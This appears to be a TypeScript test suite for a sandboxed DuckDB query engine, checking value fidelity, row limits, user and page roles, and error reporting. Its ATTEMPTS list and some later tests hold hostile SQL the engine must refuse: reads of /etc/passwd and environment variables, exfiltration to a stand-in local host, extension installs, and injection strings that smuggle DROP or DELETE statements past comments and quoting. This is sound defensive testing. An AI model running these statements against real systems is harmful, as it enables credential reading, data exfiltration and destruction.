import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { BatchBuilder, CasebookError, DOUBLE, type Failure, type Field, INT64, TEXT, TEXT_LIST, TIMESTAMP_NS } from "@/lib/model";
import { DRIFT_MACRO, READER_MACROS } from "@/lib/tables/ddl";
import { sourceView } from "@/lib/tables/dynamic";
import type { Engine, QueryOptions } from "./engine";
import { openNodeEngine } from "./open-node";

let engine: Engine;

const FIELDS: Field[] = [
	{ name: "id", type: INT64 },
	{ name: "name", type: TEXT },
	{ name: "value", type: DOUBLE },
	{ name: "seen", type: TIMESTAMP_NS },
	{ name: "tags", type: TEXT_LIST },
	{ name: "metrics", type: { kind: "map", of: DOUBLE } },
	{ name: "attempts", type: { kind: "list", of: { kind: "struct", fields: [{ name: "iteration", type: INT64 }, { name: "error", type: TEXT }] } } },
	{ name: "source", type: TEXT },
	{ name: "line", type: INT64 },
];

before(async () => {
	engine = await openNodeEngine();
	await engine.createTable("records", FIELDS);
	const batch = new BatchBuilder("records", FIELDS);
	batch.add({ id: 9007199254740993n, name: "é", value: 0.1, seen: 1704067200123456789n, tags: ["a", ""], metrics: { p: 1, q: 0 }, attempts: [{ iteration: 1, error: null }], source: "logs/a.jsonl", line: 1 });
	batch.add({ id: 0, name: "", value: null, seen: null, tags: [], metrics: {}, attempts: [], source: "logs/a.jsonl", line: 2 });
	batch.add({ id: null, name: null, value: -0, seen: -1n, tags: null, metrics: null, attempts: null, source: "old/a.jsonl", line: 1 });
	await engine.insert("records", [batch.finish()]);
	await engine.define(READER_MACROS);
	await engine.define(sourceView("logs/a.jsonl", "records"));
	await engine.define(sourceView("old/a.jsonl", "records"));
	await engine.define(sourceView("b.jsonl", "records"));
	await engine.setPaths(["logs/a.jsonl", "old/a.jsonl", "b.jsonl"]);
});

after(() => engine.close());

async function texts(sql: string, options: QueryOptions = {}): Promise<(string | null)[][]> {
	const result = await engine.query(sql, options);
	await result.complete;
	return Array.from({ length: result.numRows }, (_, row) => result.columns.map((_, column) => result.text(row, column)));
}

async function failure(sql: string, options: QueryOptions = { role: "user" }): Promise<Failure> {
	try {
		await texts(sql, options);
	} catch (error) {
		assert.ok(error instanceof CasebookError, String(error));
		return error.failure;
	}
	throw new assert.AssertionError({ message: `nothing was refused: ${sql}` });
}

test("values go in and come out exact", async () => {
	assert.deepEqual(await texts("FROM records"), [
		["9007199254740993", "é", "0.1", "2024-01-01 00:00:00.123456789", '["a", ""]', '{"p": 1, "q": 0}', '[{"iteration": 1, "error": null}]', "logs/a.jsonl", "1"],
		["0", "", null, null, "[]", "{}", "[]", "logs/a.jsonl", "2"],
		[null, null, "-0.0", "1969-12-31 23:59:59.999999999", null, null, null, "old/a.jsonl", "1"],
	]);
});

test("every type of a result shows what it holds", async () => {
	const [row] = await texts(`SELECT 1.234::DECIMAL(9,3), -0.05::DECIMAL(4,2), 170141183460469231731687303715884105727::HUGEINT, sum(5::BIGINT), INTERVAL '14 months 3 days 2 hours', DATE '1969-07-20',
		TIME '12:00:00.123', TIMESTAMP '2024-01-01 00:00:00.1', TIMESTAMP_S '2024-01-01 00:00:01', 'b'::ENUM('a', 'b'), '\\x00\\xFF'::BLOB, 'nan'::DOUBLE, '-inf'::DOUBLE, [1.5::DECIMAL(4,1), NULL], 0.1::FLOAT,
		MAP {'k': 1}, {'s': 'x"y', 'n': NULL}, 255::UTINYINT, true, NULL, 1e24::DOUBLE, 10::DOUBLE`);
	assert.deepEqual(row, ["1.234", "-0.05", "170141183460469231731687303715884105727", "5", "1 year 2 months 3 days 02:00:00", "1969-07-20", "12:00:00.123", "2024-01-01 00:00:00.1", "2024-01-01 00:00:01", "b", "\\x00ff", "NaN", "-Infinity", '["1.5", null]', "0.1", '{"k": 1}', '{"s": "x\\"y", "n": null}', "255", "true", null, "1e+24", "10.0"]);
});

test("a result stops at the row limit and says so", async () => {
	const result = await engine.query("FROM range(10000)", { maxRows: 5000 });
	await result.complete;
	assert.equal(result.numRows, 5000);
	assert.equal(result.truncated, true);
	assert.equal(result.text(4999, 0), "4999");
	const whole = await engine.query("FROM range(5000)", { maxRows: 5000 });
	await whole.complete;
	assert.equal(whole.truncated, false);
});

// What must never work, however it is written. Each must be refused or fail, and the sources must stand as before.
const ATTEMPTS = [
	"SELECT * FROM read_csv('https://127.0.0.1:9/leak?x=1')",
	"SELECT * FROM 'https://127.0.0.1:9/leak.csv'",
	"SELECT * FROM read_csv_auto(['https://127.0.0.1:9/a.csv'])",
	"SELECT * FROM read_blob('/etc/passwd')",
	"SELECT * FROM glob('/*')",
	"SELECT * FROM sniff_csv('/etc/passwd')",
	"SELECT * FROM read_json_objects('https://127.0.0.1:9/a.json')",
	"COPY records TO 'https://127.0.0.1:9/leak.csv'",
	"COPY records TO 'out.csv'",
	"COPY records FROM 'in.csv'",
	"EXPORT DATABASE 'out'",
	"IMPORT DATABASE 'in'",
	"ATTACH 'https://127.0.0.1:9/a.db' AS remote",
	"ATTACH ':memory:' AS more",
	"DETACH ws",
	"USE scratch1",
	"INSTALL httpfs",
	"LOAD httpfs",
	"FORCE INSTALL json",
	"UPDATE EXTENSIONS",
	"SET enable_external_access=true",
	"SET GLOBAL lock_configuration=false",
	"SET search_path='memory'",
	"RESET enable_external_access",
	"PRAGMA enable_external_access=true",
	"PRAGMA database_list",
	"CALL pragma_version()",
	"CHECKPOINT ws",
	"VACUUM",
	"BEGIN",
	"COMMIT",
	"ROLLBACK",
	"PREPARE leak AS SELECT 1",
	"EXECUTE leak",
	"CREATE SECRET s (TYPE http)",
	"CREATE PERSISTENT SECRET s (TYPE http)",
	"DROP SECRET s",
	"ALTER DATABASE ws RENAME TO gone",
	"DROP TABLE records",
	"DROP TABLE ws.main.records",
	"DROP SCHEMA ws.main CASCADE",
	'DROP VIEW ws.main."b.jsonl"',
	"DELETE FROM ws.main.records",
	"UPDATE ws.main.records SET name = 'x'",
	"INSERT INTO ws.main.records (id) VALUES (1)",
	"ALTER TABLE ws.main.records ADD COLUMN leak INT",
	"ALTER TABLE ws.main.records RENAME TO gone",
	"CREATE OR REPLACE TABLE ws.main.records AS SELECT 1",
	"CREATE TABLE ws.main.mine AS SELECT 1",
	"CREATE OR REPLACE VIEW ws.main.records AS SELECT 1",
	"CREATE OR REPLACE MACRO ws.main.read_json_auto(path) AS TABLE SELECT 1",
	"CREATE INDEX i ON ws.main.records(id)",
	"EXPLAIN ANALYZE DELETE FROM ws.main.records",
	"WITH x AS (SELECT 1) DELETE FROM ws.main.records",
	"WITH x AS (SELECT 1) INSERT INTO ws.main.records (id) SELECT 1",
	"CREATE MACRO leak() AS TABLE SELECT * FROM read_csv('https://127.0.0.1:9/leak'); FROM leak()",
	"SELECT * FROM query('SELECT * FROM read_csv(''https://127.0.0.1:9/leak'')')",
	"SELECT * FROM query('DROP TABLE ws.main.records')",
	"SELECT * FROM query_table('https://127.0.0.1:9/leak.csv')",
	"/* SELECT */ DROP TABLE ws.main.records",
	"-- SELECT\nDROP TABLE ws.main.records",
	"SELECT 1; DROP TABLE ws.main.records",
	"SELECT ';'; SELECT $$;$$; DELETE FROM ws.main.records",
	"(SELECT 1); DETACH ws",
	"SELECT getenv('HOME')",
	"SELECT * FROM read_text('/etc/passwd')",
	"SELECT * FROM read_parquet('https://127.0.0.1:9/a.parquet')",
	"CREATE TYPE ws.main.t AS ENUM ('a')",
	"CREATE SEQUENCE ws.main.s",
	"SELECT 1 AS é$$; COMMIT; DELETE FROM ws.main.records; SELECT 1 --$$",
	"SELECT 1 AS é$$; COMMIT; USE memory; DETACH ws; BEGIN; SELECT 1 --$$",
	`SELECT $${"t".repeat(90)}$ ; $${"t".repeat(90)}$; DROP TABLE ws.main.records`,
	"SELECT éE'\\'; DELETE FROM ws.main.records; --'",
	"FROM enable_logging(storage='file', storage_path='x')",
	"FROM system.main.enable_logging()",
	"FROM query('FROM enable_' || 'logging()')",
	"EXPLAIN ANALYZE FROM enable_logging()",
	"SUMMARIZE FROM enable_logging()",
	"CREATE TABLE t AS FROM disable_logging()",
	"FROM checkpoint('ws')",
	"EXPLAIN ANALYZE SET search_path='memory.main'",
	"EXPLAIN (ANALYZE) DROP TABLE ws.main.records",
	"CREATE/**/SECRET s (TYPE http)",
];

for (const sql of ATTEMPTS) {
	test(`refused: ${sql.replace(/\s+/g, " ")}`, async () => {
		await failure(sql);
		assert.deepEqual(await texts("SELECT count(*), count(name), min(id) FROM records"), [["3", "2", "0"]]);
		assert.deepEqual(await texts("SELECT count(*) FROM duckdb_columns() WHERE database_name = 'ws' AND table_name = 'records'"), [[String(FIELDS.length)]]);
	});
}

test("a page only reads, and one statement at a time", async () => {
	assert.equal((await failure("CREATE TABLE t AS SELECT 1", { role: "page" })).kind, "refused");
	assert.equal((await failure("SELECT 1; SELECT 2", { role: "page" })).kind, "refused");
	assert.equal((await failure("SET VARIABLE paths = []", { role: "page" })).kind, "refused");
});

test("what a user makes is the user's own and pages do not see it", async () => {
	assert.deepEqual(await texts("CREATE TABLE records AS SELECT 42 AS id; FROM records", { role: "user", tab: 1 }), [["42"]]);
	assert.deepEqual(await texts("SELECT count(*) FROM records"), [["3"]]);
	assert.deepEqual(await texts("SELECT count(*) FROM records", { role: "user", tab: 2 }), [["3"]]);
	assert.deepEqual(await texts("UPDATE records SET id = 43; DELETE FROM records WHERE id = 0; SELECT id FROM records", { role: "user", tab: 1 }), [["43"]]);
	assert.deepEqual(await texts("DROP TABLE records; SELECT count(*) FROM records", { role: "user", tab: 1 }), [["3"]]);
});

test("a failed script leaves the connection usable", async () => {
	await failure("CREATE TABLE half AS SELECT 1; SELECT nothing FROM half");
	assert.deepEqual(await texts("SELECT 1", { role: "user" }), [["1"]]);
});

test("the readers that are missing answer for a path, a name and a glob", async () => {
	const count = async (call: string) => (await texts(`SELECT count(*) FROM ${call}`, { role: "user" }))[0]![0];
	assert.equal(await count("read_json_auto('logs/a.jsonl', format='nd')"), "2");
	assert.equal(await count("read_json_auto('b.jsonl')"), "0");
	assert.equal(await count("read_ndjson('logs/*.jsonl', union_by_name=true)"), "2");
	assert.equal(await count("read_csv('*a.jsonl', header=true, delim=',')"), "3");
	assert.equal(await count("'old/a.jsonl'"), "1");
});

test("a name of two files and a name of none are errors that say what to do", async () => {
	assert.match((await failure("FROM read_json_auto('a.jsonl')")).message, /names several sources: logs\/a\.jsonl, old\/a\.jsonl/);
	assert.match((await failure("FROM read_json_auto('none.jsonl')")).message, /no source none\.jsonl/);
	assert.match((await failure("FROM read_json_auto('x''); DROP TABLE records; --')")).message, /no source/);
});

test("errors carry their position, also after wide characters and in a later statement", async () => {
	const wrong = await failure("SELECT 'äöü😀', nmae FROM records");
	assert.ok(wrong.kind === "query");
	assert.equal(wrong.position, "SELECT 'äöü😀', ".length);
	assert.ok(wrong.candidates.includes("name"));
	const later = await failure("SELECT 1;\n  SELECT nmae FROM records");
	assert.ok(later.kind === "query");
	assert.equal(later.position, "SELECT 1;\n  SELECT ".length);
	const syntax = await failure("SELEC 1");
	assert.ok(syntax.kind === "query" || syntax.kind === "refused");
});

test("the plan names the tables behind views and macros", async () => {
	assert.deepEqual(await engine.explain("SELECT count(*) FROM read_json_auto('logs/a.jsonl')"), [{ table: "records", sources: ["logs/a.jsonl"] }]);
	assert.deepEqual(await engine.explain("SELECT count(*) FROM 'logs/a.jsonl' WHERE id > 0", { role: "check" }), [{ table: "records", sources: ["logs/a.jsonl"] }]);
	assert.deepEqual(await engine.explain("SELECT count(*) FROM records WHERE id > 0"), [{ table: "records", sources: null }]);
	assert.deepEqual(await engine.explain("FROM 'logs/a.jsonl' UNION ALL FROM 'old/a.jsonl'"), [{ table: "records", sources: ["logs/a.jsonl", "old/a.jsonl"] }]);
	assert.deepEqual(await engine.explain("SELECT 1"), []);
});

test("a notebook's SQL is one statement that reads, and nobody's table stands in for a source", async () => {
	await texts("CREATE TABLE records AS SELECT 5 AS id", { role: "user", tab: 0 });
	assert.deepEqual(await texts("SELECT count(*) FROM records", { role: "check" }), [["3"]]);
	await texts("DROP TABLE records", { role: "user", tab: 0 });
	for (const sql of ["CREATE TABLE x AS SELECT 1", "SELECT 1; SELECT 2", "WITH x AS (SELECT 1) INSERT INTO ws.main.records SELECT * FROM records", "SET VARIABLE paths = []", "DROP TABLE ws.main.records", "EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", "SELECT * FROM read_csv('https://example.invalid/x.csv')", "COPY records TO 'x.csv'", "ATTACH 'x.db'", "FROM enable_logging()"])
		await assert.rejects(texts(sql, { role: "check" }), CasebookError, sql);
	assert.deepEqual(await texts("SELECT count(*) FROM records", { role: "check" }), [["3"]]);
});

test("the drift macro can be defined over baselines", async () => {
	await engine.define("CREATE TABLE ws.main.baseline_metrics AS SELECT * FROM (VALUES (TIMESTAMP_NS '2026-01-01', 'a', 10.0, 'f', 1), (TIMESTAMP_NS '2026-01-02', 'a', 13.0, 'f', 2), (TIMESTAMP_NS '2026-01-01', 'z', 0.0, 'f', 1), (TIMESTAMP_NS '2026-01-02', 'z', 1.0, 'f', 2), (TIMESTAMP_NS '2026-01-01', 'gone', 1.0, 'f', 1), (TIMESTAMP_NS '2026-01-02', 'new', 1.0, 'f', 2), (TIMESTAMP_NS '2026-01-01', 'edge', 10.0, 'f', 1), (TIMESTAMP_NS '2026-01-02', 'edge', 12.0, 'f', 2)) t(recorded_at, metric, value, source, line)");
	await engine.define(DRIFT_MACRO);
	assert.deepEqual(await texts("SELECT metric, verdict FROM drift('2026-01-01', '2026-01-02') ORDER BY metric"), [["a", "warn"], ["edge", "ok"], ["gone", "removed"], ["new", "added"], ["z", "warn"]]);
});

test("a closed engine says that it is gone", async () => {
	const other = await openNodeEngine();
	await other.close();
	await assert.rejects(other.query("SELECT 1"), (error: unknown) => error instanceof CasebookError && error.failure.kind === "engine-lost");
});

test("a question that is no longer asked fails at once, and the engine lives on", async () => {
	const abort = new AbortController();
	const asked = engine.query("SELECT count(*) FROM range(1000000) a, range(50) b", { signal: abort.signal });
	abort.abort();
	await assert.rejects(asked, (error: unknown) => error instanceof CasebookError && error.failure.kind === "cancelled");
	assert.deepEqual(await texts("SELECT count(*) FROM records"), [["3"]]);
});

test("what guards a user's statements is not among the user's tables", async () => {
	assert.deepEqual(await texts("SHOW TABLES", { role: "user", tab: 3 }).then((rows) => rows.flat().filter((name) => name?.includes("held") || name?.includes("guard"))), []);
});
